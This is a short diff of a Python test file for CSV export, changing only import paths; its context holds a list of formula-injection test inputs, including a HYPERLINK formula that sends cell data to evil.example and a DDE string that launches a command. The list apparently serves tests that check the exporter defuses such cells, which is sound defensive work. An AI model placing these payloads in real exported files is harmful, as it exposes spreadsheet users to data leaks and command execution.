@@ -11,10 +11,10 @@ from decimal import Decimal
 import pytest
 from fastapi.testclient import TestClient
 
-from app.csv_cells import TRIGGERS, cell
+from app.core.csv_cells import TRIGGERS, cell
 from app.exports.rows import MappingRow
 from app.exports.spreadsheet import write_csv
-from app.mapping_tables import crosswalk_csv
+from app.exports.tables import crosswalk_csv
 from tests.test_inventory import CV_RANKER
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
